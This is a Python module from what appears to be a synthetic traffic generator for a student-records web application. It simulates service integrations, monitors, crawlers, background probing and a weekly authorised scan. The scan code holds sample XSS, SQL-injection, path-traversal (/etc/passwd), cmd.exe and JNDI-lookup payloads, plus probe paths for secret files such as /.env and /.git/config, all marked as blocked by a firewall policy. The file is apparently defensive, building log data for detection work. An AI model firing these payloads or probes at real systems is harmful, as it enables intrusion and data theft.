"""blind23 services: sanctioned svc. integrations, synthetic monitors, crawlers, the weekly authorised scan and
internet background noise."""
import datetime as dt

from . import world as W
from .client import Browser, rand_token
from .world import Prof

DAY = W.DAY
JAVA5 = Prof("java", "Apache-HttpClient/5.3.1 (Java/21.0.5)")
PYREQ = Prof("python", "python-requests/2.32.3")
BRIDGE = Prof("java", "SISBridge/2.8 okhttp/4.12.0")
SITE24 = Prof("monitor", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
              "Chrome/120.0.0.0 Safari/537.36 Site24x7")
NAGIOS = Prof("monitor", "check_http/v2.4.9 (nagios-plugins 2.4.9)")
GOOGLE = Prof("crawler", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
BING = Prof("crawler", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; "
            "+http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36")
NESSUS = Prof("scanner", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)")
DATASETS = ["enrollment", "courses", "assessments", "programs"]


def svc_login(b, t, name):
    return b.login_form(t, name, home=False, typing=0.2 + b.rng.random() * 0.3)


def dw_extract(ctx, name):
    """svc.dw-extract: the state data warehouse's nightly bulk extract (every district x dataset), 01:15."""
    rng = ctx.rng("svc:dw")
    for d in range(ctx.days):
        b = Browser(ctx, rng, JAVA5, W.STATE_DC)
        t = svc_login(b, d * DAY + 4500 + rng.random() * 30, name)
        for code in W.DCODES:
            for ds in DATASETS:
                body = '{"district":"%s","dataset":"%s","snapshot":"current"}' % (code, ds)
                b.hit(t, "POST", "/ksr/api/v2/bulk/extracts", "", "api", 202, body=body, ctype="application/json")
                job = "X%08d" % rng.randint(0, 99999999)
                for _ in range(rng.randint(2, 12)):
                    t += 10
                    b.hit(t, "GET", "/ksr/api/v2/bulk/extracts/" + job, "", "api")
                t += 1
                dur = 5 + rng.random() * 80 * W.DINFO[code][2] / 26000
                b.hit(t, "GET", "/ksr/api/v2/bulk/extracts/%s/file" % job, "", "api", dur=dur)
                t += dur + 1
        b.hit(t, "GET", "/ksr/logout", "", "api", 302)


def assess_vendor(ctx, name, ips):
    """svc.assess-vendor: the assessment contractor uploads score files hourly on school days (two Azure hosts)."""
    rng = ctx.rng("svc:assess")
    for d in range(ctx.days):
        if not ctx.school_day(d):
            continue
        for h in range(7, 19):
            b = Browser(ctx, rng, PYREQ, ips[h % 2])
            t = svc_login(b, d * DAY + h * 3600 + 300 + rng.random() * 20, name)
            for _ in range(rng.randint(1, 2)):
                code = rng.choice(W.DCODES)
                bnd = "%032x" % rng.getrandbits(128)
                body = ('--%s\r\nContent-Disposition: form-data; name="collection"\r\n\r\nassessment-results-2026\r\n'
                        '--%s\r\nContent-Disposition: form-data; name="file"; filename="scores_%s_%02d.csv"\r\n'
                        'Content-Type: text/csv\r\n\r\nSSID,TEST,ADMIN,SCALE_SCORE,LEVEL\r\n' % (bnd, bnd, code, h))
                body += "".join("%s,%s,FALL2026,%d,%d\r\n" % (r[0], rng.choice(("ELA", "MATH", "SCI")),
                                                                  rng.randint(380, 720), rng.randint(1, 4))
                                for r in ctx.pupils.by[code][:60])
                b.hit(t, "POST", "/ksr/api/v2/submissions", "", "api", 202, body=body, clen=len(body) + 40000,
                      ctype="multipart/form-data; boundary=" + bnd, dur=1 + rng.random() * 2)
                batch = "B%d" % rng.randint(2600000, 2699999)
                for _ in range(rng.randint(2, 5)):
                    t += 15
                    b.hit(t, "GET", "/ksr/api/v2/submissions/%s/status" % batch, "", "api")
                t += 5
            b.hit(t, "GET", "/ksr/logout", "", "api", 302)


def sis_bridge(ctx, name, ip):
    """svc.sis-bridge (Riverbend): nightly change feed read and enrolment delta upload, 23:40."""
    rng = ctx.rng("svc:bridge")
    for d in range(ctx.days):
        b = Browser(ctx, rng, BRIDGE, ip)
        t = svc_login(b, d * DAY + 23.66 * 3600 + rng.random() * 60, name)
        q0 = "since=%sT23:40:00" % dt.date.fromordinal(W.START.date().toordinal() + d - 1).isoformat()
        for page in range(1, rng.randint(8, 25)):
            t += 0.8 + rng.random()
            b.hit(t, "GET", "/ksr/api/v2/district/RVB/changes", q0 + "&page=%d&size=200" % page, "api")
        body = '{"collection":"fall-enrollment-2026","records":%d}' % rng.randint(40, 400)
        b.hit(t + 2, "POST", "/ksr/api/v2/submissions/delta", "", "api", 202, body=body, ctype="application/json")
        b.hit(t + 4, "GET", "/ksr/logout", "", "api", 302)


def monitors(ctx, site24_ips):
    rng = ctx.rng("mon")
    bs = [Browser(ctx, rng, SITE24, ip) for ip in site24_ips]
    t, i = 20 + rng.random() * 40, 0
    while t < ctx.days * DAY:
        b = bs[i % len(bs)]
        b.restart()
        b.hit(t, "GET", "/ksr/login", "", "nav", ref=None)
        i += 1
        t += 60 + rng.gauss(0, 0.8)
    ng = Browser(ctx, rng, NAGIOS, W.STATE_DC)
    t = 100 + rng.random() * 100
    while t < ctx.days * DAY:
        ng.restart()
        ng.hit(t, "GET", "/ksr/health", "", "api")
        t += 300 + rng.random()


def crawlers(ctx, google_ips, bing_ips):
    rng = ctx.rng("crawl")
    from .tasks import HELP
    pages = ["/robots.txt", "/ksr/help/", "/ksr/", "/ksr/login"] + ["/ksr/help/" + h for h in HELP]
    for prof, ips, gap in ((GOOGLE, google_ips, 900), (BING, bing_ips, 1400)):
        t = rng.random() * gap
        while t < ctx.days * DAY:
            b = Browser(ctx, rng, prof, rng.choice(ips))
            for _ in range(rng.randint(1, 3)):
                path = rng.choice(pages)
                b.hit(t, "GET", path, "", "nav", 302 if path == "/ksr/" else 200, ref=None, cookies=False)
                t += 2 + rng.random() * 20
            t += gap * (0.2 + rng.random() * 1.6)


SIGS = [("200000098", "XSS script tag (Parameter)", "Cross Site Scripting (XSS)", "q=<script>alert(document.domain)</script>"),
        ("200001475", "XSS script tag end (Parameter)", "Cross Site Scripting (XSS)", "next=%22%3E%3C/script%3E%3Cscript%3Ealert(1)%3C/script%3E"),
        ("200002147", 'SQL-INJ expressions like "or 1=1" (3)', "SQL-Injection", "ssid=1%27%20or%201=1--"),
        ("200002419", 'SQL-INJ "UNION SELECT" (Parameter)', "SQL-Injection", "q=x%27%20UNION%20SELECT%20NULL,NULL--"),
        ("200007005", '"/etc/passwd" access (Parameter)', "Path Traversal", "file=../../../../etc/passwd"),
        ("200003037", "Directory traversal ../ (Parameter)", "Path Traversal", "doc=..%2f..%2f..%2fWEB-INF%2fweb.xml"),
        ("200104771", "Java JNDI injection ${jndi: (Header)", "Server Side Code Injection", ""),
        ("200003913", '"cmd.exe" access', "Command Execution", "cmd=cmd.exe%20/c%20dir"),
        ("200018151", '"/WEB-INF" access', "Information Leakage", "")]
PROBE_PATHS = ["/.git/config", "/.env", "/wp-login.php", "/phpmyadmin/index.php", "/server-status", "/manager/html",
               "/actuator/env", "/WEB-INF/web.xml", "/backup.sql", "/ksr/admin/console", "/cgi-bin/test-cgi",
               "/ksr/static/js/ksr-app-4.12.3.min.js.bak", "/ksr/login.jsp", "/solr/admin/info/system",
               "/.DS_Store", "/ksr/api/v2/../../../etc/passwd", "/ksr/debug", "/console/login/LoginForm.jsp"]
TARGETS = ["/ksr/search", "/ksr/student/lookup", "/ksr/login", "/ksr/help/", "/ksr/reports/enrollment-summary",
           "/ksr/extract/", "/ksr/"]


def scan(ctx, ip):
    """The weekly authorised vulnerability scan (Tuesday 21:00), mostly blocked by the policy."""
    rng = ctx.rng("scan")
    b = Browser(ctx, rng, NESSUS, ip)
    t = 21 * 3600 + rng.random() * 300
    end = t + 3600 * (2.2 + rng.random() * 0.6)
    while t < end:
        b.restart()
        x = rng.random()
        if x < 0.25:
            b.hit(t, "GET", rng.choice(TARGETS), "", "nav", rng.choice((200, 302, 404)), ref=None)
        elif x < 0.55:
            sid, name, atk, q = rng.choice(SIGS)
            extra = None
            if not q:
                extra = (("X-Api-Version", "${jndi:ldap://%s.scan.example.net/a}" % rand_token(rng, 6)),)
            viol = ("blocked", "Attack signature detected", "", sid, name, atk, "Critical", 5)
            if rng.random() < 0.15:
                viol = ("alerted",) + viol[1:6] + ("Error", 3)
            b.hit(t, "GET", rng.choice(TARGETS), q, "nav", 404, extra=extra, viol=viol, ref=None)
        elif x < 0.85:
            path = rng.choice(PROBE_PATHS)
            ft = path.rsplit(".", 1)[-1] if "." in path.rsplit("/", 1)[-1] else ""
            v = "Illegal file type" if ft in ("bak", "sql", "jsp", "php", "env") else "Illegal URL"
            viol = ("blocked", v, "", "", "", "Forceful Browsing", "Error", 4)
            if ".." in path:
                viol = ("blocked", "Attack signature detected,Illegal meta character in URL", "", "200007005",
                        '"/etc/passwd" access', "Path Traversal", "Critical", 5)
            b.hit(t, "GET", path, "", "nav", 404, viol=viol, ref=None)
        else:
            m = rng.choice(("TRACE", "PROPFIND", "OPTIONS", "PUT", "DEBUG"))
            viol = ("blocked", "Illegal method", "", "", "", "Abuse of Functionality", "Error", 3)
            if m == "OPTIONS":
                viol = None
            b.hit(t, m, rng.choice(TARGETS), "", "api", 200 if viol is None else 405, viol=viol, ref=None)
        t += 0.4 + rng.random() * 3.2


def noise(ctx, ips):
    """Background internet probing from a handful of addresses (a few requests each, blocked)."""
    rng = ctx.rng("noise")
    for ip in ips:
        b = Browser(ctx, rng, Prof("python", rng.choice(("Mozilla/5.0 zgrab/0.x", "python-requests/2.28.1",
                                                         "Go-http-client/1.1"))), ip)
        t = rng.random() * ctx.days * DAY
        for _ in range(rng.randint(2, 9)):
            path = rng.choice(PROBE_PATHS[:6])
            b.hit(t, "GET", path, "", "api", 404, viol=("blocked", "Illegal URL", "", "", "", "Forceful Browsing",
                                                        "Error", 4), ref=None)
            t += rng.random() * 5
